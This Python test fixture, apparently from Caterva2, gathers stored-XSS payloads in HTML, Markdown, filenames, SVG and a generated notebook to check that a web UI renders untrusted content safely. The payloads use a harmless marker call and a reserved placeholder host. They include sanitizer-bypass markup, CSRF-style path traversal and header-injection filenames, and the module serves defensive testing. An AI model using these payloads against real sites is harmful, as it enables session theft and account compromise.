"""What somebody could store to make a browser do something: names, markup, Markdown, notebooks, pictures.

Each piece would call ``taken`` of the page if it could run, or ask `ELSEWHERE` for something.
"""

# ruff: noqa: E501
from __future__ import annotations

import json
from typing import Any

ELSEWHERE = "http://elsewhere.invalid"
CODE = "top.taken()"
_ENCODED = "top&#46;taken&lpar;&rpar;"

MARKUP = (
    f"<script>{CODE}</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    f"<img src=x onerror={CODE}>",
    f"<img src=x:x onerror='{CODE}' alt='<img src=x onerror={CODE}>'>",
    f"<IMG SRC=x oNeRrOr={CODE}>",
    f"<img/src=x/onerror={CODE}>",
    f"<img src={ELSEWHERE}/pixel.png>",
    f"<img src=//elsewhere.invalid/pixel.png srcset='{ELSEWHERE}/2.png 2x' style='background:url({ELSEWHERE}/b)'>",
    f"<img src=\\\\elsewhere.invalid/pixel.png lowsrc={ELSEWHERE}/l.png>",
    f"<svg onload={CODE}></svg>",
    f"<svg><script>{CODE}</script><animate onbegin={CODE} attributeName=x dur=1s></animate></svg>",
    f"<svg><a xlink:href='javascript:{CODE}' href='javascript:{CODE}'><text y=9>x</text></a></svg>",
    f"<svg><set attributeName=href to='javascript:{CODE}'/><image href='{ELSEWHERE}/i.png'/></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{CODE}</script></svg>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{CODE}</script>'></iframe></foreignObject></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={CODE}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CODE}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=1 onerror={CODE}>",
    f"<math><annotation-xml encoding='text/html'><style><img src=1 onerror={CODE}></style></annotation-xml>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{CODE}'>x</maction></math>",
    f"<math><mi//xlink:href='data:x,<script>{CODE}</script>'>",
    f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
    f"<template><img src=x onerror={CODE}><script>{CODE}</script></template>",
    f"<div><template shadowrootmode=open><img src=x onerror={CODE}></template></div>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={CODE}>'>",
    f"<title><a href='</title><img src=x onerror={CODE}>'>",
    f"<textarea></textarea ><img title='</textarea><img src=x onerror={CODE}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={CODE}>'>",
    f"<iframe src='javascript:{CODE}'></iframe><iframe srcdoc='<script>{CODE}</script>'></iframe>",
    f"<iframe src={ELSEWHERE}/></iframe><frameset><frame src='javascript:{CODE}'></frameset>",
    f"<object data='data:text/html,<script>{CODE}</script>'></object><embed src='javascript:{CODE}'>",
    f"<object data={ELSEWHERE}/x.pdf type=application/pdf></object><applet code=x></applet>",
    f"<a href='javascript:{CODE}' id=first autofocus onfocus={CODE}>a</a>",
    f"<a href=' &#x6A;ava&#x09;script&colon;{_ENCODED}' ping={ELSEWHERE}/ping>b</a>",
    f"<a href='java\nscript:{CODE}'>c</a><a href='\x01javascript:{CODE}'>d</a><a href='vbscript:x'>e</a>",
    f"<a href='data:text/html,<script>{CODE}</script>'>f</a><a href='blob:x'>g</a><a href='#x' target=_top>h</a>",
    f"<area href='javascript:{CODE}'><map name=m><area href='javascript:{CODE}' shape=default></map>",
    f"<form action='javascript:{CODE}'><button formaction='javascript:{CODE}'>go</button></form>",
    f"<form action={ELSEWHERE}><input name=password autofocus onfocus={CODE}><input type=image src=x onerror={CODE}>",
    f"<form id=x tabindex=0 onfocus={CODE}><input id=attributes name=attributes><input name=parentNode></form>",
    "<img name=querySelector id=getElementById><form name=body><input name=children></form><a id=location></a>",
    f"<isindex action='javascript:{CODE}' type=image><keygen autofocus onfocus={CODE}>",
    f"<details open ontoggle={CODE}><summary>x</summary></details><dialog open oncancel={CODE}>x</dialog>",
    f"<button popovertarget=p>x</button><div id=p popover onbeforetoggle={CODE}>x</div>",
    f"<video autoplay src=x onerror={CODE}><source src=x onerror={CODE}></video>",
    f"<audio autoplay src={ELSEWHERE}/a.ogg onerror={CODE}></audio><video poster={ELSEWHERE}/p.png></video>",
    f"<body onload={CODE} background={ELSEWHERE}/bg.png><table background={ELSEWHERE}/t.png><td background=x>",
    f"<marquee onstart={CODE}>x</marquee><style onload={CODE}></style><link rel=stylesheet href={ELSEWHERE}/l.css>",
    f"<style>@import '{ELSEWHERE}/i.css'; * {{ background: url({ELSEWHERE}/s.png) }}</style>",
    f"<div style='background:url({ELSEWHERE}/d.png);position:fixed;inset:0' onmouseover={CODE}>over</div>",
    f"<div style='animation:a' onanimationstart={CODE}>x</div><p class=c2-page id=caterva2 role=alert>x</p>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'><meta http-equiv=refresh content='0;javascript:{CODE}'>",
    f"<base href={ELSEWHERE}/><link rel=import href=x onerror={CODE}><link rel=prefetch href={ELSEWHERE}/f>",
    f"<portal src='javascript:{CODE}'></portal><fencedframe></fencedframe><object classid=x onerror={CODE}></object>",
    f"<custom-element onconnected={CODE}></custom-element><slot name=x onslotchange={CODE}></slot>",
    f"<!--><img src=x onerror={CODE}>--><![CDATA[><img src=x onerror={CODE}>]]><?xml-stylesheet href=x?>",
    f"<p title=\"&quot;><img src=x onerror={CODE}>\">\"'><img src=x onerror={CODE}>",
    f"\\x3cimg src=x onerror={CODE}\\x3e +ADw-script+AD4-{CODE}+ADw-/script+AD4-",
    f"{{{{constructor.constructor('{CODE}')()}}}} ${{{CODE}}} <%= {CODE} %> #{{{CODE}}}",
    "<table>" * 300 + f"<img src=x onerror={CODE}>",
    f"<plaintext><img src=x onerror={CODE}>",
)  # fmt: skip

MARKDOWN = (
    f"[a](javascript:{CODE})",
    f"[b](JaVaScRiPt:{CODE} 'title')",
    f"[c](&#106;avascript&colon;{_ENCODED})",
    f"[d](data:text/html,<script>{CODE}</script>)",
    f"[e][ref]\n\n[ref]: javascript:{CODE}",
    f"<javascript:{CODE}>",
    f"![f]({ELSEWHERE}/image.png)",
    f"![g\" onerror=\"{CODE}](x)",
    f"![h](x\"onerror=\"{CODE})",
    f"![i](javascript:{CODE})",
    f"![j](data:image/svg+xml,<svg onload={CODE}>)",
    f"[k]( \x01javascript:{CODE})",
    f"[l](x \"' onclick={CODE} '\")",
    f"```\"><img src=x onerror={CODE}>\n<img src=x onerror={CODE}>\n```",
    f"`<img src=x onerror={CODE}>`",
    f"| a | <img src=x onerror={CODE}> |\n|---|---|\n| [x](javascript:{CODE}) | <b onclick={CODE}>b</b> |",
    f"- [ ] <img src=x onerror={CODE}>",
    f"![[x](javascript:{CODE})](x)",
    "![m](../../../api/deluser/ada@example.org)",
    f"<div markdown=1>\n\n[n](javascript:{CODE})\n\n</div>",
    "[o](//elsewhere.invalid/x) [p](\\\\elsewhere.invalid\\x)",
)  # fmt: skip

NAMES = (
    f"<img src=x onerror={CODE}>.txt",
    f"<svg onload={CODE}>.md",
    f"<script>{CODE}<",
    f"\"><img src=x onerror={CODE}>.b2nd",
    f"' onmouseover='{CODE}.txt",
    f"javascript:{CODE}",
    "data:text,x",
    "&lt;img src=x&gt;&#60;b&#62;.txt",
    "%3Cimg%20src=x%3E%2e%2e%2f.txt",
    f"{{{{constructor.constructor('{CODE}')()}}}}.txt",
    f"${{{CODE}}}`.txt",
    "photo\N{RIGHT-TO-LEFT OVERRIDE}gpj.txt",
    "zero\N{ZERO WIDTH SPACE}\N{BYTE ORDER MARK}width.txt",
    "?view=x#y=1&z.txt",
    "__proto__",
    "constructor.txt",
    "\N{GRINNING FACE}" * 50 + ".txt",
    "very-long-" * 23 + ".txt",
)  # fmt: skip
"""Names that files can have; directories have them too."""

UNSEEN_NAMES = ("two\r\nSet-Cookie: taken=1.txt", "bell\x07\x1b[31mred\x7f.txt")
"""Names that no file of Caterva2 has, whatever lies on the disk."""

_BUNDLES = (
    "text/html",
    "image/svg+xml",
    "text/markdown",
    "application/javascript",
    "text/latex",
    "text/plain",
)

SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" '
    f'onload="{CODE}"><script>{CODE}</script><script href="{ELSEWHERE}/x.js"/>'
    f'<style>@import url({ELSEWHERE}/x.css);</style><image href="{ELSEWHERE}/i.png" onerror="{CODE}"/>'
    f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" '
    f'src="javascript:{CODE}"/></foreignObject><a xlink:href="javascript:{CODE}"><rect width="40" height="40"/></a>'
    f'<animate attributeName="x" onbegin="{CODE}" dur="1s"/></svg>'
)
HTML = f"<!doctype html><title>t</title><body onload={CODE}>" + "\n".join(MARKUP)


def notebook() -> dict[str, Any]:
    """Return a notebook that has every piece in every place."""
    cells: list[dict[str, Any]] = []
    for piece in (*MARKUP, *MARKDOWN, SVG):
        bundles: list[dict[str, Any]] = [
            {"output_type": "display_data", "data": {media: piece}, "metadata": {media: {"isolated": True}}}
            for media in _BUNDLES
        ]
        cells += [
            {"cell_type": "markdown", "source": piece, "metadata": {"tags": [piece]}},
            {"cell_type": "raw", "source": [piece], "metadata": {"format": piece}},
            {
                "cell_type": "code",
                "source": piece,
                "execution_count": piece,
                "metadata": {"name": piece},
                "outputs": [
                    *bundles,
                    {"output_type": "stream", "name": piece, "text": [piece]},
                    {"output_type": "error", "ename": piece, "evalue": piece, "traceback": [piece]},
                    {"output_type": piece, "data": {"text/html": piece}},
                ],
            },
        ]
    bad_pictures = [
        {"output_type": "display_data", "data": {"image/png": f'x" onerror="{CODE}'}},
        {"output_type": "display_data", "data": {f'image/png" onerror="{CODE}': "x"}},
    ]
    cells.append({"cell_type": "code", "source": "", "outputs": bad_pictures})
    info = {"title": MARKUP[3], "language_info": {"name": MARKUP[3]}, "widgets": {"x": MARKUP[3]}}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": info, "cells": cells}


def notebook_bytes() -> bytes:
    """Return that notebook as a file."""
    return json.dumps(notebook()).encode()
